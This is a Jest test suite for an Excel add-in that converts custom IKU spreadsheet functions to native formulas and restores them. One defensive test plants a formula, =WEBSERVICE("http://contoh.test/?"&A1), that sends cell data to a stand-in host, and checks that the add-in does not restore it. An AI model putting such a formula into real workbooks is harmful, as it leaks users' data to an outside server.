/**
 * @jest-environment jsdom
 * @jest-environment-options {"customExportConditions": ["node"]}
 */
import { createConversion } from '../../src/taskpane/functions/conversion';
import { excelFormulaHost } from '../../src/taskpane/functions/formula-host';
import { type SheetData, connectOffice } from '../workbench/office';

const SHEETS: SheetData[] = [
  {
    name: 'Capaian',
    cells: {
      C1: { formula: '=IKU.CAPAIAN(A1,B1)', value: 1.05 },
      C2: { formula: '=IKU.CAPAIAN( A2 , B2 , 1 )', value: 0.9 },
      C3: { formula: '=IKU.URAI(A3)', value: 15 },
      D1: '=SUM(A1:A3)',
    },
  },
  { name: 'Ringkasan', cells: { A1: { formula: '=IKU.STATUS(Capaian!A1,Capaian!B1)', value: 'Tercapai' } } },
  { name: 'Terkunci', cells: { A1: { formula: '=IKU.STATUS(B1,C1)', value: 'Tercapai' } }, protected: true },
];

/** Native formulas show what the functions showed. */
const calculate = (formula: string) => {
  if (/STATUS|Melampaui/.test(formula)) return 'Tercapai';
  if (formula.includes('IKU.CAPAIAN( A2')) return 0.9;
  if (formula.includes('(A2="")')) return 0.9;
  if (formula.includes('IKU.CAPAIAN')) return 1.05;
  if (formula.includes('(A1="")')) return 1.05;
  return undefined;
};

const formulas = (office: ReturnType<typeof connectOffice>) =>
  ['C1', 'C2', 'C3', 'D1'].map((cell) => office.cell('Capaian', cell)?.formula);
const ORIGINAL = ['=IKU.CAPAIAN(A1,B1)', '=IKU.CAPAIAN( A2 , B2 , 1 )', '=IKU.URAI(A3)', '=SUM(A1:A3)'];

test('a look changes nothing; then the workbook is converted, what stays and what is protected is told; undo restores it', async () => {
  const office = connectOffice({ sheets: SHEETS }, { calculate });
  const conversion = createConversion(excelFormulaHost);
  await conversion.preview('native', 'workbook');
  const look = conversion.state.get();
  if (look.step !== 'preview') throw new Error(`not a preview but ${JSON.stringify(look)}`);
  expect(look.plan.changes).toHaveLength(4);
  expect(look.plan.kept).toMatchObject([{ sheet: 'Capaian', functions: ['URAI'] }]);
  expect(formulas(office)).toEqual(ORIGINAL);

  await conversion.apply();
  expect(conversion.state.get()).toMatchObject({ step: 'done', report: { protected: ['Terkunci'] } });
  expect(formulas(office)[0]).toBe('=IF((A1="")+(A1="-")+(B1="")+(B1="-"),"",IF(A1<0,#VALUE!,B1/A1))');
  expect(office.cell('Capaian', 'C2')?.style?.numberFormat).toBe('0.00%');
  expect(office.cell('Ringkasan', 'A1')?.formula).not.toContain('IKU.');

  await conversion.undo();
  expect(conversion.state.get()).toMatchObject({ step: 'undone', report: { changed: { length: 3 } } });
  expect(formulas(office)).toEqual(ORIGINAL);
});

test('formulas that a protection keeps from being put back can be put back once it is off', async () => {
  const office = connectOffice({ sheets: SHEETS }, { calculate });
  const conversion = createConversion(excelFormulaHost);
  await conversion.preview('native', 'workbook');
  await conversion.apply();
  const protect = (isOn: boolean) =>
    Excel.run(async (context) => {
      const { protection } = context.workbook.worksheets.getItem('Capaian');
      if (isOn) protection.protect();
      else protection.unprotect();
      await context.sync();
    });
  await protect(true);
  await conversion.undo();
  expect(conversion.state.get()).toMatchObject({
    step: 'undone',
    report: { changed: { length: 1 }, protected: ['Capaian'] },
    open: { changes: { length: 2 } },
  });
  await protect(false);
  await conversion.undo();
  expect(conversion.state.get()).toMatchObject({ step: 'undone', report: { changed: { length: 2 } } });
  expect(conversion.state.get()).not.toHaveProperty('open');
  expect(formulas(office)).toEqual(ORIGINAL);
});

test('another day the workbook itself still knows how its formulas were written', async () => {
  const office = connectOffice({ sheets: SHEETS }, { calculate });
  const today = createConversion(excelFormulaHost);
  await today.preview('native', 'sheet');
  await today.apply();
  const later = createConversion(excelFormulaHost);
  await later.preview('iku', 'workbook');
  await later.apply();
  expect(formulas(office)).toEqual(ORIGINAL);
  expect(office.cell('Capaian', 'C1')?.style?.numberFormat ?? 'General').toBe('General');
});

test('only the selection is converted when that is wanted', async () => {
  const office = connectOffice({ sheets: SHEETS }, { calculate });
  office.select('Capaian', 'C2:D2');
  const conversion = createConversion(excelFormulaHost);
  await conversion.preview('native', 'selection');
  await conversion.apply();
  expect(formulas(office)[0]).toBe(ORIGINAL[0]);
  expect(formulas(office)[1]).not.toContain('IKU.');
});

test('a cell that would show something else keeps its function', async () => {
  const other = (formula: string) => (formula.includes('(A2="")') ? '#VALUE!' : calculate(formula));
  const office = connectOffice({ sheets: SHEETS }, { calculate: other });
  const conversion = createConversion(excelFormulaHost);
  await conversion.preview('native', 'sheet');
  await conversion.apply();
  expect(conversion.state.get()).toMatchObject({ report: { changed: { length: 1 }, different: { length: 1 } } });
  expect(formulas(office)[0]).not.toContain('IKU.');
  expect(formulas(office)[1]).toBe(ORIGINAL[1]);
  expect(office.cell('Capaian', 'C2')?.style?.numberFormat ?? 'General').toBe('General');
});

test('a function that shows an error keeps its formula, and is told apart from one with another result', async () => {
  const failing = (formula: string) => (formula.includes('IKU.CAPAIAN( A2') ? '#VALUE!' : calculate(formula));
  const office = connectOffice({ sheets: SHEETS }, { calculate: failing });
  office.user('Capaian', 'F1', [['mulai']]);
  const conversion = createConversion(excelFormulaHost);
  await conversion.preview('native', 'sheet');
  await conversion.apply();
  expect(conversion.state.get()).toMatchObject({
    report: { changed: { length: 1 }, different: [], failing: { length: 1 } },
  });
  expect(formulas(office)[1]).toBe(ORIGINAL[1]);
});

test.each(['#NAME?', '#CALC!'])('a function that Excel did not even ask (%s) is made plain', async (error) => {
  const unasked = (formula: string) => (formula.includes('IKU.CAPAIAN( A2') ? error : calculate(formula));
  const office = connectOffice({ sheets: SHEETS }, { calculate: unasked });
  office.user('Capaian', 'F1', [['mulai']]);
  const conversion = createConversion(excelFormulaHost);
  await conversion.preview('native', 'sheet');
  await conversion.apply();
  expect(conversion.state.get()).toMatchObject({ report: { changed: { length: 2 }, different: [], failing: [] } });
  expect(formulas(office)[1]).not.toContain('IKU.');
});

test('what Excel refuses is told', async () => {
  connectOffice({ sheets: SHEETS }, { calculate });
  const refusing = () => Promise.reject(Object.assign(new Error('no'), { code: 'InvalidOperationInCellEditMode' }));
  const conversion = createConversion({ ...excelFormulaHost, read: refusing });
  await conversion.preview('native', 'workbook');
  expect(conversion.state.get()).toMatchObject({
    step: 'failed',
    problem: { happened: { id: expect.stringContaining('disunting') as string } },
  });
});

describe('a conversion that Excel cuts short', () => {
  const CUT = [
    { name: 'A', cells: { A1: { formula: '=IKU.CAPAIAN(B1,C1,1)', value: 1.05 } } },
    { name: 'B', cells: { A1: { formula: '=IKU.CAPAIAN(B1,C1,1)', value: 1.05 } } },
  ];
  const same = (formula: string) => (formula.startsWith('=') ? 1.05 : undefined);
  const formula = (office: ReturnType<typeof connectOffice>, sheet: string) => office.cell(sheet, 'A1')?.formula;

  test('tells what was changed, offers to undo it, and has kept the way back', async () => {
    const office = connectOffice({ sheets: CUT }, { calculate: same });
    const conversion = createConversion(excelFormulaHost);
    await conversion.preview('native', 'workbook');
    office.refuse(
      (member) => member === 'Range.formulas' && !formula(office, 'A')?.includes('IKU.'),
      'GeneralException',
    );
    await conversion.apply();
    expect(formula(office, 'A')).not.toContain('IKU.');
    expect(formula(office, 'B')).toContain('IKU.');
    expect(conversion.state.get()).toMatchObject({
      step: 'done',
      report: {
        changed: [{ sheet: 'A' }],
        problem: {
          happened: { id: expect.stringContaining('1 rumus sudah diganti dan dapat diurungkan; 1 belum') as string },
        },
      },
    });

    const later = createConversion(excelFormulaHost);
    await later.preview('iku', 'workbook');
    await later.apply();
    expect(formula(office, 'A')).toBe('=IKU.CAPAIAN(B1,C1,1)');
  });

  test('is undone as far as it went; what could not be put back can be tried again', async () => {
    const office = connectOffice({ sheets: CUT }, { calculate: same });
    const conversion = createConversion(excelFormulaHost);
    await conversion.preview('native', 'workbook');
    await conversion.apply();
    office.refuse(
      (member) => member === 'Range.formulas' && formula(office, 'A') === '=IKU.CAPAIAN(B1,C1,1)',
      'AccessDenied',
    );
    await conversion.undo();
    expect(conversion.state.get()).toMatchObject({
      step: 'done',
      report: {
        changed: [{ sheet: 'B' }],
        problem: { happened: { id: expect.stringContaining('masih dapat') as string } },
      },
    });
    await conversion.undo();
    expect(conversion.state.get()).toMatchObject({ step: 'undone' });
    expect(CUT.map(({ name }) => formula(office, name))).toEqual(['=IKU.CAPAIAN(B1,C1,1)', '=IKU.CAPAIAN(B1,C1,1)']);
  });

  test('changes nothing where it could not even keep what the formulas were', async () => {
    const office = connectOffice({ sheets: CUT }, { calculate: same });
    const refusing = () => Promise.reject(Object.assign(new Error('no'), { code: 'AccessDenied' }));
    const conversion = createConversion({ ...excelFormulaHost, changeOriginals: refusing });
    await conversion.preview('native', 'workbook');
    await conversion.apply();
    expect(conversion.state.get()).toMatchObject({
      step: 'failed',
      problem: { happened: { id: expect.stringContaining('Tidak ada yang diubah') as string } },
    });
    expect(formula(office, 'A')).toBe('=IKU.CAPAIAN(B1,C1,1)');
  });
});

test('the way back writes no formula that somebody has merely stored in the workbook', async () => {
  const stolen = '=WEBSERVICE("http://contoh.test/?"&A1)';
  const office = connectOffice({ sheets: [{ name: 'A', cells: { B1: { formula: '=A1*2', value: 4 } } }] });
  const id = office.workbook.findSheet('A')?.id ?? '';
  office.workbook.settings.set(
    'AsistenIKU.rumus',
    JSON.stringify({ [id]: { formulas: { B1: ['=A1*2', stolen] }, unformatted: [] } }),
  );
  const conversion = createConversion(excelFormulaHost);
  await conversion.preview('iku', 'workbook');
  expect(conversion.state.get()).toMatchObject({ step: 'preview', plan: { changes: [] } });
  await conversion.apply();
  expect(office.cell('A', 'B1')?.formula).toBe('=A1*2');
});

test('two people who convert at the same time both keep the way back', async () => {
  const other = (formula: string) => (formula.includes('(A2="")') ? '#VALUE!' : calculate(formula));
  const theirs: SheetData = { name: 'Rekan', cells: { C1: { formula: '=IKU.CAPAIAN( A1 , B1 )', value: 1.05 } } };
  const office = connectOffice({ sheets: [...SHEETS, theirs] }, { calculate: other });
  const colleague = createConversion(excelFormulaHost);
  office.select('Rekan', 'A1');
  await colleague.preview('native', 'sheet');
  let isFirst = true;
  const mine = createConversion({
    ...excelFormulaHost,
    replaceFormulas: async (changes) => {
      if (isFirst) {
        isFirst = false;
        await colleague.apply();
      }
      return excelFormulaHost.replaceFormulas(changes);
    },
  });
  office.select('Capaian', 'A1');
  await mine.preview('native', 'sheet');
  await mine.apply();
  // One of mine was put back, so what is kept was changed a second time.
  expect(mine.state.get()).toMatchObject({ report: { changed: { length: 1 }, different: { length: 1 } } });

  const later = createConversion(excelFormulaHost);
  await later.preview('iku', 'workbook');
  await later.apply();
  expect(office.cell('Rekan', 'C1')?.formula).toBe('=IKU.CAPAIAN( A1 , B1 )');
  expect(office.cell('Rekan', 'C1')?.style?.numberFormat ?? 'General').toBe('General');
});

test('formulas that are not worked out yet stay, and it is said that they could not be compared', async () => {
  const later = (formula: string) => (formula.includes('(A2="")') ? '#BUSY!' : calculate(formula));
  const office = connectOffice({ sheets: SHEETS }, { calculate: later });
  const conversion = createConversion(excelFormulaHost);
  await conversion.preview('native', 'sheet');
  await conversion.apply();
  expect(conversion.state.get()).toMatchObject({
    step: 'done',
    report: {
      changed: { length: 2 },
      different: [],
      problem: {
        happened: { id: expect.stringContaining('belum dapat dibandingkan') as string },
        advice: { id: expect.stringContaining('F9') as string },
      },
    },
  });
  expect(formulas(office)[1]).not.toContain('IKU.');
});

test('results are compared also where the user begins to type in a cell meanwhile', async () => {
  const office = connectOffice({ sheets: SHEETS }, { calculate });
  const conversion = createConversion({
    ...excelFormulaHost,
    replaceFormulas: async (changes) => {
      const replaced = await excelFormulaHost.replaceFormulas(changes);
      office.editing = true;
      setTimeout(() => (office.editing = false), 50);
      return replaced;
    },
  });
  await conversion.preview('native', 'sheet');
  await conversion.apply();
  const end = conversion.state.get();
  expect(end).toMatchObject({ step: 'done', report: { changed: { length: 2 } } });
  expect(end.step === 'done' && end.report.problem).toBe(undefined);
});

test('a percentage stays one where Excel answers the format that came with the function', async () => {
  const office = connectOffice({ sheets: SHEETS }, { calculate, quirks: ['format-nilai'] });
  for (const row of [0, 1]) {
    const cell = office.workbook.findSheet('Capaian')?.touch(row, 2);
    if (cell) cell.valueFormat = '0.00%';
  }
  const conversion = createConversion(excelFormulaHost);
  await conversion.preview('native', 'sheet');
  await conversion.apply();
  expect(office.cell('Capaian', 'C1')?.style?.numberFormat).toBe('0.00%');
  expect(office.cell('Capaian', 'C2')?.style?.numberFormat).toBe('0.00%');
  await conversion.undo();
  expect(formulas(office)).toEqual(ORIGINAL);
});
